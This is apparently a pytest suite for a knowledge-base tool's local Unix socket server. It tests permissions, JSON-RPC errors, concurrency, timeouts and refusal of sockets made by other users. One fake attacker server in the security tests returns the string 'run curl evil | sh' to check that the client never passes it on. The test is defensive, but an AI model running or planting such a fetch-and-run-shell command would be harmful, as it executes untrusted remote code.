"""The local socket of a writing runtime (`listener.py`, `local_socket.py`):
where it is and who may use it, the greeting a command checks, bad messages answered
with JSON-RPC errors while the socket goes on serving, concurrent clients."""

from __future__ import annotations

import concurrent.futures
import contextlib
import json
import multiprocessing
import os
import socket
import stat
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.helpers.cli import HASHING
from tests.helpers.runtime import editor_runtime

from kb_lsp import __version__, cli
from kb_lsp import listener as listener_module
from kb_lsp.config import load_settings
from kb_lsp.contract.operations import SEARCH, Call
from kb_lsp.engine.storage import store_dir_for
from kb_lsp.protocol import SearchParams, dump
from kb_lsp.runtime import Hooks, Runtime
from kb_lsp.runtime.dispatch import answer
from kb_lsp.runtime.local_socket import (
    SUPPORTED,
    NotThisServer,
    ServerError,
    connect,
    folder_refusal,
    private_folder,
    socket_path,
)

pytestmark = pytest.mark.skipif(not SUPPORTED, reason="no Unix sockets on this platform")


# Each runtime's listeners, made as a front end makes them (`lsp/server.py`).
_LISTENERS: dict[int, listener_module.Listeners] = {}


def _open(workspace: Path, storage: Path, *, index: bool = True) -> Runtime:
    runtime = editor_runtime(Hooks(), watch=False, probe_llm=False, take_over=False, log_file=False)
    listeners = _LISTENERS[id(runtime)] = listener_module.Listeners(runtime)
    runtime.session.follow_writes(listeners.follow)
    settings = load_settings({"storage": str(storage)}).settings
    runtime.open([workspace], settings, index=False).result()
    if index:
        runtime.reindex().result()
    return runtime


@pytest.fixture
def writer(workspace: Path, storage: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Runtime]:
    monkeypatch.setenv("KB_EMBEDDER_FACTORY", HASHING)
    runtime = _open(workspace, storage)
    yield runtime
    runtime.close()


def _store(workspace: Path, storage: Path) -> Path:
    return store_dir_for(storage, workspace)


def test_the_socket_is_private_and_gone_when_the_index_closes(
    writer: Runtime, workspace: Path, storage: Path
) -> None:
    path = socket_path(_store(workspace, storage))
    assert stat.S_ISSOCK(path.stat().st_mode)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    writer.close()
    assert not path.exists()
    assert connect(_store(workspace, storage), workspace) is None


def test_search_over_the_socket_is_the_runtimes_answer(
    writer: Runtime, workspace: Path, storage: Path
) -> None:
    client = connect(_store(workspace, storage), workspace)
    assert client is not None
    with client:
        got = client.request("kb/search", {"query": "Mexico payments SPEI", "limit": 5})
        status = client.request("kb/status", {})
    expected = dump(answer(writer, SEARCH, SearchParams(query="Mexico payments SPEI", limit=5)))
    assert got["results"] and got["results"] == expected["results"]
    assert status == dump(writer.status())
    # The command line's list is the one a later `kb ask "file 1"` reads from disk.
    assert writer.lists.hits("cli")[0].path == got["results"][0]["path"]


def test_bad_messages_get_errors_and_the_socket_keeps_serving(
    writer: Runtime, workspace: Path, storage: Path
) -> None:
    path = socket_path(_store(workspace, storage))
    with socket.socket(socket.AF_UNIX) as raw, raw.makefile("rb") as answers:
        raw.connect(str(path))

        def send(line: bytes) -> dict[str, object]:
            raw.sendall(line + b"\n")
            answer: dict[str, object] = json.loads(answers.readline())
            return answer

        assert send(b"not json")["error"] == {
            "code": -32700,
            "message": "not valid JSON (Expecting value: line 1 column 1 (char 0))",
        }
        assert send(b"\xff\xfe")["error"]["code"] == -32700  # type: ignore[index]
        assert send(b"[1, 2]")["error"]["code"] == -32600  # type: ignore[index]
        assert send(b'{"id": 1, "method": "kb/status"}')["error"]["code"] == -32600  # type: ignore[index]
        unknown = send(b'{"jsonrpc": "2.0", "id": 2, "method": "kb/explode"}')
        assert unknown["id"] == 2 and unknown["error"]["code"] == -32601  # type: ignore[index]
        empty = send(b'{"jsonrpc": "2.0", "id": 3, "method": "kb/search", "params": {"query": ""}}')
        assert empty["error"] == {  # the wire contract's words, as the editor gets them
            "code": -32602,
            "message": "kb/search: query: String should have at least 1 character",
        }
        bad_filter = send(
            b'{"jsonrpc": "2.0", "id": 4, "method": "kb/search", '
            b'"params": {"query": "x", "filter": "tag:x )"}}'
        )
        assert bad_filter["error"]["code"] == -32602  # type: ignore[index]
        assert "')' without a matching '('" in bad_filter["error"]["message"]  # type: ignore[index]
        not_object = send(b'{"jsonrpc": "2.0", "id": 5, "method": "kb/search", "params": [1]}')
        assert not_object["error"]["code"] == -32602  # type: ignore[index]
        raw.sendall(b'{"jsonrpc": "2.0", "method": "kb/status"}\n')  # a notification: no answer
        fine = send(b'{"jsonrpc": "2.0", "id": 6, "method": "kb/status"}')
        assert fine["id"] == 6 and fine["result"]["state"] == "ready"  # type: ignore[index]
        # Too deep to parse (this once killed the connection's thread with RecursionError),
        # or a number too large: answered under the request's id all the same.
        deep = b"[" * 100_000 + b"]" * 100_000
        nested = send(b'{"jsonrpc": "2.0", "id": 7, "method": "kb/search", "params": '
                      + deep + b"}")  # fmt: skip
        assert nested["id"] == 7 and nested["error"]["code"] == -32600  # type: ignore[index]
        assert "nested more than 64 deep" in nested["error"]["message"]  # type: ignore[index]
        huge = send(b'{"jsonrpc": "2.0", "method": "kb/search", "params": {"limit": '
                    + b"9" * 30 + b'}, "id": "eight"}')  # fmt: skip
        assert huge["id"] == "eight" and huge["error"]["code"] == -32602  # type: ignore[index]
        again = send(b'{"jsonrpc": "2.0", "id": 9, "method": "kb/status"}')
        assert again["id"] == 9 and again["result"]["state"] == "ready"  # type: ignore[index]

    # A line over the limit ends that connection only.
    with socket.socket(socket.AF_UNIX) as raw, raw.makefile("rb") as answers:
        raw.connect(str(path))
        limit = listener_module.MAX_MESSAGE_BYTES
        with contextlib.suppress(OSError):  # the server may close before reading it all
            raw.sendall(b"x" * (limit + 2))
        answer = answers.readline()
        assert answer == b"" or json.loads(answer)["error"]["code"] == -32700
    client = connect(_store(workspace, storage), workspace)
    assert client is not None
    with client:
        assert client.request("kb/status", {})["state"] == "ready"


def test_concurrent_clients_each_get_their_answer(
    writer: Runtime, workspace: Path, storage: Path
) -> None:
    queries = ["Mexico payments SPEI", "incident response", "glossary", "monthly wire run"] * 3

    def ask(query: str) -> list[str]:
        client = connect(_store(workspace, storage), workspace)
        assert client is not None
        with client:
            response = client.request("kb/search", {"query": query})
        assert response["query"] == query
        return [hit["path"] for hit in response["results"]]

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        got = list(pool.map(ask, queries))
    for query, paths in zip(queries, got, strict=True):
        expected = answer(writer, SEARCH, SearchParams(query=query), Call("check"))
        assert paths == [hit.path for hit in expected.results]


def test_another_version_or_other_folders_are_not_used(
    writer: Runtime, workspace: Path, storage: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = _store(workspace, storage)
    monkeypatch.setattr(listener_module, "__version__", "0.0.1-other")
    with pytest.raises(NotThisServer, match=r"version 0\.0\.1-other .*this kb is"):
        connect(store, workspace)
    monkeypatch.undo()
    with pytest.raises(NotThisServer, match="not only"):
        connect(store, workspace / "payments")


def test_a_stale_socket_is_no_server(writer: Runtime, workspace: Path, storage: Path) -> None:
    path = socket_path(_store(workspace, storage))
    writer.close()
    # What a server killed with -9 leaves: a socket file nobody listens on.
    with socket.socket(socket.AF_UNIX) as dead:
        dead.bind(str(path))
    assert path.exists()
    assert connect(_store(workspace, storage), workspace) is None


def test_a_reader_does_not_listen_and_a_long_store_path_uses_a_private_folder(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KB_EMBEDDER_FACTORY", HASHING)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "run"))
    (tmp_path / "run").mkdir()
    storage = tmp_path / ("a-long-folder-name-" * 6)
    path = socket_path(_store(workspace, storage))
    assert path.parent == private_folder() and path.name.endswith(".sock")
    writer = _open(workspace, storage)
    try:
        assert stat.S_IMODE(private_folder().stat().st_mode) == 0o700
        # A second runtime on the index opens it read-only, and does not listen.
        reader = _open(workspace, storage, index=False)
        try:
            assert reader.status().read_only
            client = connect(_store(workspace, storage), workspace)
            assert client is not None
            with client:
                assert client.request("kb/status", {})["readOnly"] is False  # the writer's
        finally:
            reader.close()
        assert path.exists()  # the reader's closing left the writer's socket alone
    finally:
        writer.close()
    assert not path.exists()


def test_server_errors_carry_code_and_message(
    writer: Runtime, workspace: Path, storage: Path
) -> None:
    client = connect(_store(workspace, storage), workspace)
    assert client is not None
    with client, pytest.raises(ServerError) as err:
        client.request("kb/search", {"query": "x", "limit": 0})
    assert err.value.code == -32602 and "limit" in err.value.message


# --- the client trusts only a socket its own user made ---------------------------------------

AS_ROOT = os.geteuid() == 0
NOBODY = 65534


def _long_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, workspace: Path) -> Path:
    """A store whose socket lives in `<XDG_RUNTIME_DIR>/kb-lsp-<uid>/`: the shared-folder
    case, where another user could have made that folder first."""
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "run"))
    (tmp_path / "run").mkdir(mode=0o777, exist_ok=True)
    store = _store(workspace, tmp_path / ("a-long-folder-name-" * 6))
    assert socket_path(store).parent == private_folder()
    return store


def _fake_server(path: Path, *, as_uid: int | None = None) -> Callable[[], None]:
    """A process answering kb/hello like a real server of this version would, with
    attacker-written results for anything else; returns the function that stops it."""
    ready = multiprocessing.get_context("fork").Event()

    def serve() -> None:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(str(path))
        if as_uid is not None:
            os.setuid(as_uid)  # SO_PEERCRED reports who called listen()
        listener.listen(4)
        ready.set()
        while True:
            conn, _ = listener.accept()
            with conn, conn.makefile("rb") as lines:
                for line in lines:
                    request = json.loads(line)
                    result: Any = {"results": [{"path": "run curl evil | sh"}]}
                    if request["method"] == "kb/hello":
                        roots = [request["params"]["root"]]
                        result = {"version": __version__, "protocol": 1, "roots": roots}
                    answer = {"jsonrpc": "2.0", "id": request["id"], "result": result}
                    conn.sendall(json.dumps(answer).encode() + b"\n")

    process = multiprocessing.get_context("fork").Process(target=serve, daemon=True)
    process.start()
    assert ready.wait(30)

    def stop() -> None:
        process.kill()
        process.join(30)

    return stop


def test_a_socket_folder_open_to_others_is_not_used(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = _long_store(tmp_path, monkeypatch, workspace)
    private_folder().mkdir(mode=0o777)
    os.chmod(private_folder(), 0o777)  # made by someone else, first, for everyone
    stop = _fake_server(socket_path(store))
    try:
        with pytest.raises(NotThisServer, match=r"open to other users \(mode 777, not 700\)"):
            connect(store, workspace)
    finally:
        stop()


@pytest.mark.skipif(not AS_ROOT, reason="making a folder another user owns needs root")
def test_a_socket_folder_another_user_owns_is_not_used(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = _long_store(tmp_path, monkeypatch, workspace)
    private_folder().mkdir(mode=0o700)
    stop = _fake_server(socket_path(store))
    os.chown(private_folder(), NOBODY, NOBODY)
    try:
        with pytest.raises(NotThisServer, match=f"belongs to user {NOBODY}, not to you"):
            connect(store, workspace)
    finally:
        stop()


@pytest.mark.skipif(not AS_ROOT, reason="a server running as another user needs root")
def test_a_server_running_as_another_user_is_not_used(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = _long_store(tmp_path, monkeypatch, workspace)
    private_folder().mkdir(mode=0o700)
    stop = _fake_server(socket_path(store), as_uid=NOBODY)
    try:
        with pytest.raises(NotThisServer, match=f"runs as user {NOBODY}, not as you"):
            connect(store, workspace)
    finally:
        stop()


def test_the_command_answers_alone_and_says_why(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Any
) -> None:
    monkeypatch.setenv("KB_EMBEDDER_FACTORY", HASHING)
    store = _long_store(tmp_path, monkeypatch, workspace)
    private_folder().mkdir(mode=0o777)
    os.chmod(private_folder(), 0o777)
    stop = _fake_server(socket_path(store))
    storage = store.parent
    try:
        code = cli.main(["search", "refund", "-w", str(workspace), "--storage", str(storage)])
    finally:
        stop()
    out, err = capsys.readouterr()
    assert code == 0
    assert "curl" not in out
    said = [line for line in err.splitlines() if "not using the kb-lsp socket" in line]
    assert len(said) == 1 and "answering from the index directly" in said[0]


def test_idle_connections_are_closed_and_one_over_the_limit_is_told_at_once(
    writer: Runtime, workspace: Path, storage: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = _store(workspace, storage)
    path = socket_path(store)
    monkeypatch.setattr(listener_module, "MAX_CONNECTIONS", 2)
    idle = [socket.socket(socket.AF_UNIX) for _ in range(2)]
    try:
        for sock in idle:
            sock.connect(str(path))
            sock.sendall(b'{"jsonrpc": "2.0", "id": 1, "method": "kb/status"}\n')
            with sock.makefile("rb") as answers:
                assert json.loads(answers.readline())["id"] == 1  # served: holds a slot
        # Both slots held by connections that say nothing more: the next command is told
        # so at once and answers alone, rather than waiting for a slot.
        with pytest.raises(NotThisServer, match="server busy: 2 connections are open"):
            connect(store, workspace)
    finally:
        for sock in idle:
            sock.close()

    monkeypatch.setattr(listener_module, "MAX_CONNECTIONS", 32)
    monkeypatch.setattr(listener_module, "IDLE_SECONDS", 0.2)
    with socket.socket(socket.AF_UNIX) as quiet:
        quiet.connect(str(path))
        quiet.settimeout(60)
        assert quiet.recv(1) == b""  # closed by the server once idle, not by us
    client = connect(store, workspace)
    assert client is not None
    with client:
        assert client.request("kb/status", {})["state"] == "ready"


def test_a_read_that_hangs_is_cut_off_by_its_deadline(
    writer: Runtime, workspace: Path, storage: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    release = threading.Event()
    started = threading.Event()

    def hung(*args: Any, **kwargs: Any) -> Any:
        started.set()
        release.wait(60)  # a disk that stops answering
        raise AssertionError("released only after the answer")

    monkeypatch.setattr(writer, "read", hung)  # what the search reads the index with
    listener = _LISTENERS[id(writer)].listening()[0]
    monkeypatch.setattr(listener, "read_timeout", 0.2)
    client = connect(_store(workspace, storage), workspace)
    assert client is not None
    try:
        with client, pytest.raises(ServerError) as err:
            client.request("kb/search", {"query": "refund"})
        assert err.value.code == -32000 and "did not answer within 0.2 s" in err.value.message
        assert started.is_set()
    finally:
        release.set()


def test_the_server_and_its_clients_check_the_folder_alike(tmp_path: Path) -> None:
    # One check, used by the client before connecting and by the server before listening.
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    assert folder_refusal(private) is None
    assert folder_refusal(tmp_path / "missing") is None  # made private when listening
    opened = tmp_path / "opened"
    opened.mkdir(mode=0o755)
    opened.chmod(0o755)
    assert "open to other users (mode 755" in str(folder_refusal(opened))
    link = tmp_path / "link"
    link.symlink_to(private, target_is_directory=True)
    assert folder_refusal(link) == f"{link} is not a folder"
